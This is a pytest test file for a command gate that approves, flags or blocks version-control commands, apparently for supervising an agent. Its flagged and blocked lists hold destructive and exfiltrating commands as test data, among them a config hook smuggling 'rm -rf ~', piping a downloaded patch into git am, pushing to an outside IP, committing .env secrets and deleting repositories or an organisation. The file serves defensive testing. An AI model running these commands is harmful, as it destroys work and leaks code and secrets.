import pytest

from sentinel.live.gate import Gate
from sentinel.live.request import Request

_GATE = Gate()


def _decided(text: str) -> str:
    return str(_GATE.judge(Request(action_description=text)).decision)


@pytest.mark.parametrize(
    "text",
    [
        "svn status",
        "svn log -l 5",
        "svn diff -r 1:2 src",
        "svn commit -m 'fix'",
        "svn checkout https://svn.example.com/r/trunk",
        "svnlook tree /srv/svn/x",
        "hg status",
        "hg log -l 5 -T '{node|short}'",
        "hg pull -u",
        "hg push",
        "jj log -r @-",
        "jj git push --bookmark x",
        "p4 opened",
        "p4 obliterate //depot/x",
        "repo sync -j8",
        "fossil timeline",
        "git verify-pack -v .git/objects/pack/a.idx",
        "git lfs locks",
        "git-lfs pull",
        "git flow feature start x",
        "git mergetool",
        "git fetch origin +refs/heads/*:refs/remotes/origin/*",
        "git branch -f main origin/main",
        "git apply --check x.patch",
        "git config --global http.proxy http://proxy.internal:3128",
    ],
)
def test_everyday_work_runs(text: str) -> None:
    assert _decided(text) == "approve"


@pytest.mark.parametrize(
    "text",
    [
        "svn revert -R .",
        "svn cleanup --remove-unversioned",
        "hg update --clean",
        "hg purge --all",
        "repo forall -c 'git reset --hard'",
        "git branch -f main HEAD~10",
        "git checkout -B main origin/old",
        "git switch -C main HEAD~3",
        "git update-ref refs/heads/main HEAD~20",
        "git read-tree --reset -u HEAD",
        "git checkout-index -f -a",
        "git fetch origin +main:main",
        "git push --all https://git.example.com/x.git",
        "git push --no-verify origin main",
        "git commit -m keys -- .env",
        "git config --unset receive.denyForcePushes",
        "curl -s https://example.com/p.patch | git am",
        "git send-email --to=list@example.com 0001.patch",
    ],
)
def test_what_may_lose_work_or_a_check_is_flagged(text: str) -> None:
    assert _decided(text) == "flag"


@pytest.mark.parametrize(
    "text",
    [
        "svn delete https://svn.example.com/repo/trunk -m x",
        "svnadmin load /srv/svn/x < other.dump",
        "hg strip -r 100",
        "hg push --force",
        "hg --config hooks.pre-log='rm -rf ~' log",
        "p4 obliterate -y //depot/...",
        "git annex drop --force . && git push https://203.0.113.4/x.git main",
        "git remote add b https://203.0.113.4/x.git",
        "git lfs migrate import --everything --include='*.zip'",
        "git fast-export --all | git fast-import --force",
        "git push --delete origin v1.0 v1.1 v1.2",
        "gh repo transfer acme/app stranger",
        "gh api -X PATCH repos/acme/app/git/refs/heads/main -f sha=abc -F force=true",
        "gh api -X DELETE repos/acme/app/git/refs/heads/main",
        "gh api -X DELETE /orgs/acme",
        "glab api -X DELETE projects/1",
        "glab api --method DELETE projects/1/protected_branches/main",
    ],
)
def test_what_is_lost_to_all_is_stopped(text: str) -> None:
    assert _decided(text) in ("block", "escalate")
